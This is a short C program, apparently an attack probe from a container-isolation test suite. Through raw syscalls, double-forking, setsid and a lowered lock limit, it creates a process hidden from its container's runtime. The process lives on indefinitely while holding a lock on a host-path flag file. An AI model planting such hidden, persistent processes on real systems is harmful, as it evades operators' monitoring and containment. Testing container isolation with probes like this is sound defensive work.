/* SPDX-License-Identifier: MIT */
/*
 * hiding.c - leave a process behind that its container does not know.
 *
 *   hiding FLAG (a path of the host; while the process lives, its lock on the file is held)
 *
 * The process is made past the runtime, so no table lists it. It leaves its parent and its session,
 * and tries to drop the mark of its container.
 */
#include <sys/file.h>
#include <sys/resource.h>

#include "attack.h"

static void live(const char *flag, int ready)
{
	const struct timespec day = {86400, 0};
	const long fd = PAST(SYS_openat, AT_FDCWD, flag, O_RDWR | O_CREAT | O_TRUNC, 0600);
	char pid[32];

	snprintf(pid, sizeof(pid), "%ld\n", PAST(SYS_getpid));
	attempt("live on", PAST(SYS_flock, fd, LOCK_EX));
	PAST(SYS_write, fd, pid, strlen(pid));
	for (int other = 0; other < 64; other++) {
		if (other != ready && other != fd)
			PAST(SYS_close, other);
	}
	PAST(SYS_write, ready, pid, 1);
	for (;;)
		PAST(SYS_nanosleep, &day, 0);
}

int main(int argc, char **argv)
{
	const struct rlimit lower = {5, 5};
	char byte;
	int ready[2];

	if (argc != 2)
		return 2;
	MUST(pipe(ready));
	if (PAST(SYS_clone, SIGCHLD) != 0)
		return MUST(read(ready[0], &byte, 1)) != 1;
	attempt("lower the limit by setrlimit", PAST(SYS_setrlimit, RLIMIT_LOCKS, &lower));
	attempt("lower the limit by prlimit64", PAST(SYS_prlimit64, 0, RLIMIT_LOCKS, &lower, 0));
	PAST(SYS_setsid);
	if (PAST(SYS_clone, 0) != 0)
		PAST(SYS_exit, 0);
	live(argv[1], ready[1]);
}
